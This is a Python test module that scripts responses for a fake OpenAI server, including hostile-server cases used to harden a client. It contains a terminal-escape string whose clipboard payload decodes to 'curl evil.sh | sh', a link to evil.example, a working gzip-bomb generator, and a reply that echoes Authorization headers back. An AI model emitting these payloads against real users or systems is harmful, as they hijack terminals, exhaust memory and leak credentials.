"""The steps a :class:`~compactor.testing.fake_openai.FakeOpenAI` is scripted with.

Each request the fake answers uses up one :class:`Step` (then the fake's ``default``). Build
steps with the constructors here: the ordinary answers (:func:`reply`, :func:`status`,
:func:`delay`), the faults (:func:`hang`, :func:`drop`, :func:`reset_connection`,
:func:`truncated`, :func:`raw`, :func:`empty_choices`, :func:`content_filter`,
:func:`context_length_error`) and the hostile servers (:func:`retry_after`, :func:`drip`,
:func:`gzip_bomb`, :func:`reply_content`, :func:`escape_error`, :func:`echo_headers`,
:func:`redirect`).

A standalone fake's ``--script`` is a JSON list of steps (:func:`step_from_dict`):
``{"reply": "text"}`` (optionally with ``"finish_reason"`` and ``"role"``), ``{"status": 500}``,
``{"status": 429, "headers": {"retry-after": "1"}}``, ``{"hang": true}``, ``{"delay": 0.5}``
(optionally with ``"then": {...}``), ``{"raw": "{not json"}``, ``{"drop": true}``, ``{"reset":
true}``, ``{"truncated": "partial body"}``, ``{"empty_choices": true}``, ``{"content_filter":
"partial text"}``, ``{"context_length": true}``, and the hostile ones: ``{"retry_after": "inf"}``
(a 429 with that header), ``{"drip": 0.5, "where": "headers"}`` (the response one byte every
0.5 s; ``"body"``: a chunked body), ``{"gzip_bomb": 1073741824}`` (a gzip body that inflates to
that many bytes), ``{"content": [{"type": "text", "text": "..."}]}`` (any JSON as
``message.content``), ``{"escapes": 500}`` (an error body full of terminal escapes) and
``{"echo_headers": true}`` (a reply that repeats every request header, ``Authorization``
included) and ``{"redirect": "http://elsewhere/v1/chat/completions", "code": 307}``.
"""

from __future__ import annotations

import functools
import json
import struct
import zlib
from dataclasses import dataclass, field

from compactor._json import JsonObject, JsonValue
from compactor.testing.fake_bodies import context_length_body

__all__ = [
    "DEFAULT_SUMMARY",
    "ESCAPES",
    "Step",
    "content_filter",
    "context_length_error",
    "delay",
    "drip",
    "drop",
    "echo_headers",
    "empty_choices",
    "escape_error",
    "gzip_bomb",
    "gzip_bomb_body",
    "hang",
    "raw",
    "redirect",
    "reply",
    "reply_content",
    "reset_connection",
    "retry_after",
    "status",
    "step_from_dict",
    "truncated",
]

DEFAULT_SUMMARY = """<analysis>
The conversation was walked through in order; this is a canned summary from the fake server.
</analysis>

<summary>
1. Primary Request and Intent:
   The user asked for a task to be done.
2. Key Technical Concepts:
   - none
3. Files and Code Sections:
   - none
4. Errors and fixes:
   - none
5. Problem Solving:
   Work progressed normally.
6. All user messages:
<all_user_messages>
    - (fake server summary)
</all_user_messages>
7. Pending Tasks:
   - none
8. Current Work:
   Summarizing the conversation.
9. Optional Next Step:
   None.
</summary>"""
"""The reply used when the step queue is empty (unless ``default`` is given)."""


@dataclass(frozen=True, slots=True)
class Step:
    """One scripted response. Build steps with :func:`reply`, :func:`status`, ... ."""

    kind: str
    text: str | None = ""
    usage: dict[str, int] | None = None
    finish_reason: str = "stop"
    role: str = "assistant"
    code: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    seconds: float = 0.0
    then: Step | None = None
    content: JsonValue = None
    """``reply_content``: the JSON value sent as ``message.content`` instead of ``text``."""
    where: str = ""
    """``drip``: ``headers`` (the whole response byte by byte) or ``body`` (a chunked body)."""
    size: int = 0
    """``gzip_bomb``: the number of bytes the body inflates to."""


def reply(
    text: str | None,
    usage: dict[str, int] | None = None,
    finish_reason: str = "stop",
    role: str = "assistant",
) -> Step:
    """A 200 chat completion with one choice whose message content is ``text`` (None: null).

    ``role`` other than ``"assistant"`` makes a reply no real server sends (a wrong role)."""
    return Step("reply", text=text, usage=usage, finish_reason=finish_reason, role=role)


def status(code: int, headers: dict[str, str] | None = None, body: JsonValue = None) -> Step:
    """An HTTP response with ``code``; ``body``: bytes, str or JSON-able (default: an error)."""
    if body is None:
        payload = {"error": {"message": f"fake error {code}", "type": "fake", "code": None}}
        data = json.dumps(payload).encode()
    elif isinstance(body, bytes):
        data = body
    elif isinstance(body, str):
        data = body.encode()
    else:
        data = json.dumps(body).encode()
    return Step("status", code=code, headers=dict(headers or {}), body=data)


def delay(seconds: float, then_step: Step | None = None) -> Step:
    """Wait ``seconds`` (interruptible by stop/reset), then run ``then_step`` (default: default)."""
    return Step("delay", seconds=seconds, then=then_step)


def hang() -> Step:
    """Never answer: block until the server is stopped or reset, then close the connection."""
    return Step("hang")


def raw(data: bytes | str) -> Step:
    """A 200 response with ``data`` as the body (malformed or truncated JSON)."""
    return Step("raw", body=data.encode() if isinstance(data, str) else data)


def drop() -> Step:
    """Close the connection without sending any response."""
    return Step("drop")


def reset_connection() -> Step:
    """Abort the connection with a TCP reset (RST, not a clean close), sending nothing."""
    return Step("reset")


def truncated(data: bytes | str = b'{"id": "chatcmpl-fake", "choices": [') -> Step:
    """Send 200 headers announcing more bytes than ``data`` (Content-Length + 100), send
    ``data``, then close: the body ends early."""
    return Step("truncated", body=data.encode() if isinstance(data, str) else data)


def content_filter(text: str = "") -> Step:
    """A 200 completion whose choice stopped with ``finish_reason: "content_filter"``; ``text`` is
    the (partial) content, empty means ``content: null``."""
    return Step("reply", text=text or None, finish_reason="content_filter")


def context_length_error(limit: int = 8192, tokens: int = 10000) -> Step:
    """The HTTP 400 OpenAI answers when the messages do not fit the model's context window."""
    return status(400, body=context_length_body(limit, tokens))


def empty_choices() -> Step:
    """A 200 chat completion with ``choices: []``."""
    return Step("empty_choices")


# -- hostile servers -------------------------------------------------------------------------

ESCAPES = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: write the clipboard
    "\x1b]0;pwned\x07"  # OSC 0: set the window title
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x9b31m"  # a C1 CSI (8-bit) sequence
    "\u202e"  # right-to-left override
)
"""Terminal escapes a hostile server may put in a body (clipboard, title, link, clear screen)."""


def retry_after(value: str, code: int = 429) -> Step:
    """A ``code`` answer whose ``retry-after`` header is ``value`` (``"1000000000"``, ``"inf"``,
    ``"Fri, 31 Dec 9999 23:59:59 GMT"``, ...)."""
    return status(code, headers={"retry-after": value})


def drip(interval: float, where: str = "headers", then_step: Step | None = None) -> Step:
    """Send the answer (``then_step``, default: the default reply) one byte every ``interval``
    seconds: ``where="headers"`` drips the whole response from its status line on,
    ``where="body"`` sends the headers at once and drips a chunked body. Each byte arrives well
    within any per-read timeout; only a deadline on the whole request stops it."""
    if where not in ("headers", "body"):
        raise ValueError(f"drip where must be 'headers' or 'body', got {where!r}")
    return Step("drip", seconds=interval, where=where, then=then_step)


@functools.lru_cache(maxsize=4)
def gzip_bomb_body(size: int) -> bytes:
    """A valid gzip stream of ``size`` zero bytes, about ``size / 1000`` bytes long.

    Built without compressing ``size`` bytes: after a full flush deflate starts afresh, so every
    MiB of zeros compresses to the same block, which is repeated; the trailer's CRC-32 is
    computed over the zeros (about 0.25 s per GiB, once per size)."""
    mib = 1 << 20
    zeros = bytes(mib)
    comp = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(size, mib)
    crc = 0
    for _ in range(whole):
        crc = zlib.crc32(zeros, crc)
    crc = zlib.crc32(bytes(rest), crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    tail = comp.compress(bytes(rest)) + comp.flush()
    trailer = struct.pack("<II", crc, size & 0xFFFFFFFF)
    return header + block * whole + tail + trailer


def gzip_bomb(size: int = 1 << 30, code: int = 200) -> Step:
    """A ``code`` answer with ``content-encoding: gzip`` whose body (about ``size / 1000``
    bytes) inflates to ``size`` zero bytes (default 1 GiB from about 1 MB)."""
    return Step("gzip_bomb", code=code, size=size)


def reply_content(content: JsonValue, finish_reason: str = "stop") -> Step:
    """A 200 chat completion whose ``message.content`` is ``content`` as given: a list of parts
    (``[{"type": "text", "text": "..."}]``, as several servers send), a dict, a number, ..."""
    return Step("reply", content=content, finish_reason=finish_reason)


def escape_error(code: int = 500) -> Step:
    """An error answer whose message is full of terminal escapes (:data:`ESCAPES`)."""
    message = f"upstream failed {ESCAPES} see logs"
    return status(code, body={"error": {"message": message, "type": "fake", "code": None}})


def redirect(location: str, code: int = 307) -> Step:
    """A ``code`` redirect (307 keeps the method and body, as a client that follows it would
    resend the whole request) to ``location``: what a hijacked proxy or a moved endpoint
    answers."""
    body = {"error": {"message": f"moved to {location}", "type": "fake", "code": None}}
    return status(code, headers={"location": location}, body=body)


def echo_headers() -> Step:
    """A 200 chat completion whose content repeats every request header, ``Authorization``
    and any ``api-key`` included, as a summary: what a hostile or careless server may do."""
    return Step("echo_headers")


def step_from_dict(d: JsonObject) -> Step:
    """One step of a ``--script`` JSON file."""
    if "reply" in d:
        return reply(
            str(d["reply"]),
            usage=d.get("usage"),
            finish_reason=str(d.get("finish_reason", "stop")),
            role=str(d.get("role", "assistant")),
        )
    if "status" in d:
        return status(int(d["status"]), headers=d.get("headers"), body=d.get("body"))
    if "delay" in d:
        then = d.get("then")
        return delay(float(d["delay"]), step_from_dict(then) if isinstance(then, dict) else None)
    if d.get("hang"):
        return hang()
    if "raw" in d:
        return raw(str(d["raw"]))
    if d.get("drop"):
        return drop()
    if d.get("reset"):
        return reset_connection()
    if "truncated" in d:
        value = d["truncated"]
        return truncated(value) if isinstance(value, str) else truncated()
    if d.get("empty_choices"):
        return empty_choices()
    if "content_filter" in d:
        value = d["content_filter"]
        return content_filter(value if isinstance(value, str) else "")
    if d.get("context_length"):
        return context_length_error()
    if "retry_after" in d:
        return retry_after(str(d["retry_after"]), int(d.get("code", 429)))
    if "drip" in d:
        then = d.get("then")
        return drip(
            float(d["drip"]),
            str(d.get("where", "headers")),
            step_from_dict(then) if isinstance(then, dict) else None,
        )
    if "gzip_bomb" in d:
        return gzip_bomb(int(d["gzip_bomb"]), int(d.get("code", 200)))
    if "content" in d:
        return reply_content(d["content"], str(d.get("finish_reason", "stop")))
    if "escapes" in d:
        return escape_error(int(d["escapes"]))
    if d.get("echo_headers"):
        return echo_headers()
    if "redirect" in d:
        return redirect(str(d["redirect"]), int(d.get("code", 307)))
    raise ValueError(f"unknown fake step: {d!r}")
